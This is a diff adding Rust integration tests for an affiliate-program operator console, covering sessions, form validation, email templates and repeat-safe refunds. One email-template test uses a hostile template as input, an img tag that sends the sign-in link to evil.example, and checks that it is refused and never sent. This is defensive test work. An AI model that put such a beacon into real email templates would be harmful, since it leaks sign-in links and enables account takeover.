@@ -249,6 +249,17 @@ async fn an_operator_signs_in_by_emailed_link_and_the_two_doors_never_mix() {
         StatusCode::SEE_OTHER,
         "… a removed manager does not"
     );
+    // Added again, they sign in afresh: the old session stays closed.
+    c.world.clock.advance_secs(60);
+    let spec = OperatorSpec {
+        email: MANAGER.into(),
+        role: Role::Manager,
+    };
+    operators::put(c.services(), spec, "samples").await.unwrap();
+    assert_eq!(
+        c.get("/console", Some(&max)).await.status,
+        StatusCode::SEE_OTHER
+    );
     // Sessions end by the clock.
     c.world.clock.advance_secs(CONSOLE_SESSION_SECS);
     assert_eq!(
@@ -440,6 +451,21 @@ async fn applications_are_decided_one_by_one_or_together_and_a_rejection_needs_a
             .contains("href=\"/console/partners/p-ada\">ada</a>"),
         "the recruiter"
     );
+    // One applicant rejected without a reason: said at that applicant's reason field.
+    let page = c
+        .post_form(
+            "/console/applications",
+            &manager,
+            "one=reject%3Ap-eve&reason-p-eve=",
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(
+        page.text.contains("id=\"reason-p-eve-error\""),
+        "{}",
+        page.text
+    );
+    assert!(!page.text.contains("id=\"reason-error\""));
     // Rejecting several without a reason rejects nobody, and says so at the field.
     let page = c
         .post_form(
@@ -450,6 +476,11 @@ async fn applications_are_decided_one_by_one_or_together_and_a_rejection_needs_a
         .await;
     assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
     assert!(page.text.contains("id=\"reason-error\""), "{}", page.text);
+    assert!(
+        page.text
+            .contains("value=\"p-fay\" id=\"pick-p-fay\" aria-label=\"Select fay\" checked"),
+        "ticked boxes stay ticked"
+    );
     assert_eq!(c.partner_status("p-eve").await, PartnerStatus::Pending);
     // With a reason, both are rejected and each is told it.
     let page = c
@@ -531,6 +562,11 @@ async fn a_partners_page_shows_all_about_them_and_refuses_a_recruitment_cycle() 
     assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
     assert!(page.text.contains("id=\"recruiter-error\""));
     assert!(page.text.contains("recruitment cycle"), "{}", page.text);
+    assert!(
+        page.text
+            .contains("name=\"recruiter\" type=\"text\" value=\"p-ada\""),
+        "what was typed stays"
+    );
     let bo = c
         .services()
         .store
@@ -740,6 +776,17 @@ async fn a_campaign_is_created_with_its_terms_checked_field_by_field_and_preview
             .unwrap()
             .is_none()
     );
+    // A JSON box's problem is named at that box, by the member's path in it.
+    let bad = form.replace("targeting=", "targeting=%7B%22countries%22%3A+%22US%22%7D");
+    let page = c.post_form("/console/campaigns", &manager, &bad).await;
+    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(
+        page.text.contains("id=\"targeting-error\""),
+        "{}",
+        page.text
+    );
+    assert!(page.text.contains("targeting.countries"), "{}", page.text);
+    assert!(!page.text.contains("id=\"more_terms-error\""));
     // An analyst may not create one.
     let page = c.post_form("/console/campaigns", &analyst, form).await;
     assert_eq!(page.status, StatusCode::FORBIDDEN);
@@ -1164,6 +1211,15 @@ async fn settings_are_saved_field_by_field_and_the_postback_secret_is_shown_once
             .status,
         StatusCode::FORBIDDEN
     );
+    // Every role may preview the signup form: it changes nothing.
+    let page = c
+        .post_form(
+            "/console/settings",
+            &manager,
+            &settings.replace("action=save", "action=preview"),
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
     // Bad values are named, and nothing is saved.
     let bad = settings
         .replace("minimum=25.00", "minimum=lots")
@@ -1325,11 +1381,130 @@ async fn email_templates_are_previewed_checked_saved_and_reset() {
     );
     let page = c.post_form(path, &manager, "action=reset").await;
     assert!(page.text.contains("The shipped template is used again."));
+    // The emails that carry a sign-in link are fixed: a manager who could edit them could
+    // send an owner's link to themselves.
+    let leak = "subject=Sign+in&text={{+sign_in_url+}}&html=%3Cimg+src%3D%22https%3A%2F%2Fevil.example%2F{{+sign_in_url+}}%22%3E&action=save";
+    for fixed in ["operator_sign_in_link", "sign_in_link"] {
+        let path = format!("/console/settings/emails/{fixed}");
+        let page = c.get(&path, Some(&manager)).await;
+        assert!(page.text.contains("its text is fixed"), "{}", page.text);
+        assert!(!page.text.contains("value=\"save\""), "no save button");
+        let page = c.post_form(&path, &manager, leak).await;
+        assert_eq!(page.status, StatusCode::CONFLICT, "{}", page.text);
+        assert!(
+            upline_domain::usecases::emails::template_override(&c.services().store, fixed)
+                .await
+                .unwrap()
+                .is_none()
+        );
+    }
+    // One stored before they were fixed is never sent.
+    c.services()
+        .store
+        .table()
+        .put(
+            upline_domain::store::encode(
+                upline_domain::store::keys::email_template("operator_sign_in_link"),
+                &upline_domain::emails::TemplateSource {
+                    subject: "x".into(),
+                    text: "{{ sign_in_url }}".into(),
+                    html: "<img src=\"https://evil.example/{{ sign_in_url }}\">".into(),
+                },
+            ),
+            upline_domain::ports::Condition::None,
+        )
+        .await
+        .unwrap();
+    let page = c
+        .pages
+        .send(
+            Method::POST,
+            "/console/login",
+            None,
+            Some(format!("email={}", OWNER.replace('@', "%40"))),
+            &[],
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::OK);
+    let sent = c.delivered_sign_in_emails().await;
+    assert_eq!(sent.len(), 1);
+    assert!(
+        sent[0].1.contains("operator console as olive@example.com"),
+        "the shipped text: {}",
+        sent[0].1
+    );
     assert!(
         upline_domain::usecases::emails::template_override(&c.services().store, "partner_approved")
             .await
             .unwrap()
             .is_none()
     );
+    c.assert_policy_kept();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_refund_is_in_the_program_currency_and_taken_once_however_often_it_is_sent() {
+    use upline_domain::conversion::OriginalAmount;
+    use upline_domain::money::{Currency, ExchangeRate, Money};
+    let c = console().await;
+    // The sample sale, as if it had been 80.00 GBP converted at 1.25 into 100.00 USD.
+    let store = &c.services().store;
+    let mut sale = store
+        .conversion(&"conv-sample-1".into())
+        .await
+        .unwrap()
+        .unwrap();
+    let gbp = Currency::from_code("GBP").unwrap();
+    sale.original = Some(OriginalAmount {
+        amount: Money::from_minor(8_000, gbp),
+        rate: ExchangeRate {
+            from: gbp,
+            to: Currency::from_code("USD").unwrap(),
+            rate: rust_decimal::Decimal::new(125, 2),
+        },
+    });
+    store
+        .table()
+        .transact(vec![upline_domain::store::Store::conversion_put(
+            &sale,
+            upline_domain::ports::Condition::None,
+        )])
+        .await
+        .unwrap();
+    commission_sample(c.services()).await;
+    let manager = c.signed_in(MANAGER).await;
+    let path = "/console/conversions/conv-sample-1";
+    let page = c.get(path, Some(&manager)).await;
+    assert!(page.text.contains("Amount refunded (USD)"));
+    let at = page
+        .text
+        .find("name=\"refund_id\" value=\"")
+        .expect("a refund id in the form");
+    let refund_id = &page.text[at + 24..];
+    let refund_id = refund_id[..refund_id.find('"').unwrap()].to_string();
+    // The form sent twice (a reload, a double click): refunded once, in dollars.
+    let form = format!("action=refund&amount=40.00&kind=refund&refund_id={refund_id}");
+    let first = c.post_form(path, &manager, &form).await;
+    assert!(first.text.contains("Refunded 40.00 USD"), "{}", first.text);
+    let again = c.post_form(path, &manager, &form).await;
+    assert_eq!(again.status, StatusCode::OK);
+    assert!(
+        again.text.contains("was already recorded; nothing changed"),
+        "{}",
+        again.text
+    );
+    let sale = store
+        .conversion(&"conv-sample-1".into())
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(sale.amounts.refunded.minor(), 4_000);
+    // What was typed stays when the amount is refused.
+    let page = c
+        .post_form(path, &manager, "action=refund&amount=999.00&reference=r-9")
+        .await;
+    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(page.text.contains("value=\"999.00\""), "{}", page.text);
+    assert!(page.text.contains("value=\"r-9\""));
     c.assert_policy_kept();
 }
